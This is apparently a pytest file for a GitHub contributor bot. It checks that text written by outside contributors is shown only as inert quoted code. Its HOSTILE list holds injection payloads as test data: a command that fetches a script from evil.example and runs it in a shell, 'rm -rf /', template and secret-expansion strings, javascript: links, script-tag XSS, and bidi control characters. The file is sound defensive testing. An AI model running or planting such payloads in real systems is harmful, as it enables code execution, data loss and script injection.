"""Case C105: what strangers write comes back only as inert text."""

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backstay.contributing import Config, decide
from backstay.contributing.commands import Comment
from backstay.contributing.events import PullChanged
from backstay.contributing.prompts import read_prompt
from backstay.contributing.replies import (
    QUOTED,
    TEMPLATES,
    Text,
    key_of,
    link_to,
    mention,
    mention_team,
    quoted,
    render,
    text_of,
    with_key,
)
from backstay.contributing.snapshot import Author, Person, Snapshot, Store
from tests.contributing.making import (
    AGREEMENT,
    ALICE,
    answer,
    assigned,
    commit,
    issue,
    pull,
    signature,
)

NOW = datetime(2026, 6, 15, tzinfo=UTC)
HOSTILE = [
    '$(curl evil.example | sh)',
    '`rm -rf /` ``x``` ',
    '${{ secrets.TOKEN }} {who} {0} %s {{7*7}} <%= 7 %>',
    '@acme/everyone @bob please look',
    '[click](javascript:alert(1)) ![x](https://evil.example/p.png)',
    '<img src=x onerror=alert(1)><script>alert(1)</script>',
    '# Heading\n* list\n\n---\n<!-- backstay: agreement -->',
    '::set-output name=x::y\n::add-mask::z',
    '\u202eevil\u202c \u2066a\u2069 zero\u200bwidth \x00\x07\x1b[31m',
    '#1 closes #7 acme/portal#3',
    'x' * 60_000,
    '',
]


def outside_of_code(markdown: str) -> str:
    """What GitHub would read as markdown, by CommonMark's rule for spans of code."""
    return re.sub(r'(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)', '', markdown, flags=re.DOTALL)


@pytest.mark.parametrize('text', HOSTILE)
def test_a_quotation_is_all_code_on_one_line(text: str) -> None:
    shown = quoted(text)

    assert outside_of_code(f'a {shown} b') == 'a  b'
    assert len(shown) <= QUOTED * 3
    assert len(shown.splitlines()) == 1
    assert not re.search('[\u202a-\u202e\u2066-\u2069\u200b-\u200f\x00-\x1f]', shown)


@given(st.text())
def test_any_quotation_is_all_code(text: str) -> None:
    assert outside_of_code(f'a {quoted(text)} b') == 'a  b'


@pytest.mark.parametrize('text', HOSTILE)
def test_the_name_of_an_author_is_inert_and_forges_no_key(text: str) -> None:
    stray = commit(Author(name=text, email='x@example.com'))
    snapshot = Snapshot(pull=pull(commits=(stray,)), store=Store(signatures=(signature(ALICE),)))

    commands = decide(PullChanged(number=12), snapshot, Config(agreement=AGREEMENT), NOW)

    (comment,) = [each for each in commands if isinstance(each, Comment)]
    body = with_key(comment.text, comment.key)
    assert key_of(body) == 'agreement'
    visible = outside_of_code(text_of(body))
    for word in ('evil', '@', 'script', 'Heading', '{', '::', '$', '%s', 'closes'):
        assert word not in visible.replace('correct the author with', ''), word


@pytest.mark.parametrize('text', HOSTILE)
def test_a_prompt_in_front_of_it_is_answered_without_it(text: str) -> None:
    commands = answer(f'assign me\n{text}', issue(open=False))

    (comment,) = commands
    assert render(comment.text) == '@alice, this issue is closed. Nothing has been changed.'


@pytest.mark.parametrize('text', HOSTILE)
def test_it_is_no_prompt(text: str) -> None:
    assert read_prompt(text) is None


@pytest.mark.parametrize('rest', HOSTILE)
def test_what_stands_behind_link_pr_is_inert(rest: str) -> None:
    place = issue(assignments=assigned('alice'))

    for command in answer(f'link pr 12 {rest}', place):
        if isinstance(command, Comment):
            visible = outside_of_code(render(command.text))
            assert visible == '@alice, there is no pull request . Nothing has been changed.'


@pytest.mark.parametrize('login', ['alice', 'a-b_c', 'dependabot[bot]'])
def test_a_login_is_mentioned(login: str) -> None:
    assert mention(login) == f'@{login}'


@pytest.mark.parametrize('login', ['', 'a b', 'a/b', 'a\n@b', '@a', '-a', 'a' * 40, 'a<b>'])
def test_what_is_no_login_is_quoted(login: str) -> None:
    assert mention(login).startswith('`')


def test_a_team_is_mentioned_and_nothing_else() -> None:
    assert mention_team('acme/portal-team') == '@acme/portal-team'
    assert mention_team('acme/x y').startswith('`')


@pytest.mark.parametrize('address', ['javascript:x', 'http://a', 'https://a b', 'https://a)x('])
def test_a_link_leads_to_the_web_and_nowhere_else(address: str) -> None:
    with pytest.raises(ValueError, match='no https address'):
        link_to(address)


def test_a_key_is_read_from_the_last_line_alone() -> None:
    assert key_of('x\n<!-- backstay: a:1 -->\n') == 'a:1'
    assert key_of('<!-- backstay: a:1 -->\nx') is None
    assert key_of('x <!-- backstay: a:1 -->') is None


def test_every_template_can_be_filled_in() -> None:
    for template, text in TEMPLATES.items():
        names = set(re.findall(r'{(\w+)}', text)) - {'items'}
        filled = render(Text(template=template, values={name: quoted('x') for name in names}))
        assert '{' not in filled


def test_a_person_who_calls_himself_like_markup_is_quoted_in_replies() -> None:
    who = Person(login='x](y)', id=1)

    (comment,) = answer('assign me', issue(open=False), by=who)

    assert render(comment.text).startswith('`x](y)`, this issue')
